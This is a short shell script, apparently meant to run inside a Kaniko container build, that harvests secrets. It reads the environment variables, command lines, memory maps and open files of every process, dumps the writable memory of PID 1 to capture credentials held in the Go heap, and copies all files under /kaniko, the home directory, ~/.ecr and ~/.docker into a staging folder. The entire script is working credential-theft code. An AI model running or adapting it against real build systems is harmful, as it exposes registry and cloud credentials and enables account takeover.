#!/bin/sh
out=/found
mkdir -p $out/proc $out/files
env > $out/self.env
for p in /proc/[0-9]*; do
  n=${p#/proc/}
  [ "$n" = "$$" ] && continue
  cat $p/environ > $out/proc/$n.environ 2> $out/proc/$n.environ.err
  cat $p/cmdline > $out/proc/$n.cmdline 2> $out/proc/$n.cmdline.err
  cat $p/maps > $out/proc/$n.maps 2> $out/proc/$n.maps.err
  ls -l $p/fd/ > $out/proc/$n.fds 2> $out/proc/$n.fds.err
  for fd in $p/fd/*; do
    # Regular files only: a pipe or socket would block.
    [ -f "$fd" ] && timeout 5 head -c 1048576 "$fd" > $out/proc/$n.fd.${fd##*/} 2>/dev/null
  done
done
# PID 1's writable memory, where the Go heap (and every secret in it) lives.
if [ -s $out/proc/1.maps ]; then
  grep ' rw' $out/proc/1.maps | while read range rest; do
    start=$((0x${range%-*})); end=$((0x${range#*-}))
    pages=$(((end - start) / 4096)); [ $pages -gt 4096 ] && pages=4096
    timeout 10 dd if=/proc/1/mem of=$out/proc/1.mem.$start bs=4096 skip=$((start / 4096)) count=$pages 2>/dev/null
  done
else
  head -c 4096 /proc/1/mem > $out/proc/1.mem 2> $out/proc/1.mem.err
fi
# Every file under /kaniko (but the plugin's own binary), $HOME, ~/.ecr, ~/.docker.
find /kaniko "$HOME" ~/.ecr ~/.docker -type f ! -path /kaniko/kaniko-ecr > $out/files.list 2>&1
while read f; do
  [ -f "$f" ] || continue
  mkdir -p "$out/files${f%/*}" && cat "$f" > "$out/files$f"
done < $out/files.list
true
